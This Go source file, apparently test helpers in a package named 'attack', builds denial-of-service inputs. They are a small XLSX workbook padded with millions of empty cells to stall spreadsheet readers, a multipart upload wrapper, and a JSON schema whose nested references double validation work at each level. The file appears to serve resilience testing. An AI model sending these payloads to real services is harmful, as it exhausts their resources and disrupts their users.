package attack

import (
	"archive/zip"
	"bytes"
	"fmt"
	"mime/multipart"
	"strings"
)

// EmptyCells is a workbook (XLSX) with a number of empty cells and one cell with a text.
// Three million of them take 12 KB and keep a reader busy for seconds.
func EmptyCells(cells int, text string) []byte {
	const (
		main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
		rels = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
		pack = "http://schemas.openxmlformats.org/package/2006"
		kind = "application/vnd.openxmlformats-officedocument.spreadsheetml."
	)
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, part := range [][2]string{
		{"[Content_Types].xml", `<Types xmlns="` + pack + `/content-types">` +
			`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
			`<Override PartName="/xl/workbook.xml" ContentType="` + kind + `sheet.main+xml"/>` +
			`<Override PartName="/xl/worksheets/sheet1.xml" ContentType="` + kind + `worksheet+xml"/></Types>`},
		{"_rels/.rels", `<Relationships xmlns="` + pack + `/relationships"><Relationship Id="rId1" Type="` + rels +
			`/officeDocument" Target="xl/workbook.xml"/></Relationships>`},
		{"xl/workbook.xml", `<workbook xmlns="` + main + `" xmlns:r="` + rels +
			`"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>`},
		{"xl/_rels/workbook.xml.rels", `<Relationships xmlns="` + pack + `/relationships"><Relationship Id="rId1" Type="` +
			rels + `/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`},
		{"xl/worksheets/sheet1.xml", `<worksheet xmlns="` + main + `"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>` +
			text + `</t></is></c></row><row r="2">` + strings.Repeat("<c/>", cells) + `</row></sheetData></worksheet>`},
	} {
		w, err := z.Create(part[0])
		if err == nil {
			_, err = w.Write([]byte(part[1]))
		}
		if err != nil {
			panic("attack: a ZIP in memory takes what is written: " + err.Error())
		}
	}
	if err := z.Close(); err != nil {
		panic("attack: a ZIP in memory can be closed: " + err.Error())
	}
	return b.Bytes()
}

// FileForm is a form with one file, and its content type.
func FileForm(name string, file []byte) (contentType string, body []byte) {
	var b bytes.Buffer
	w := multipart.NewWriter(&b)
	part, err := w.CreateFormFile("file", name)
	if err == nil {
		_, err = part.Write(file)
	}
	if err != nil || w.Close() != nil {
		panic("attack: a form in memory takes what is written")
	}
	return w.FormDataContentType(), b.Bytes()
}

// SlowSchema is a JSON schema of 2 KB that accepts every object. Each of its levels has
// the next one checked twice.
func SlowSchema(levels int) string {
	var b strings.Builder
	b.WriteString(`{"$ref":"#/$defs/0","$defs":{`)
	for i := range levels {
		fmt.Fprintf(&b, `"%d":{"anyOf":[{"allOf":[{"$ref":"#/$defs/%d"},{"type":"null"}]},{"$ref":"#/$defs/%[2]d"}]},`, i, i+1)
	}
	fmt.Fprintf(&b, `"%d":{"type":"object"}}}`, levels)
	return b.String()
}
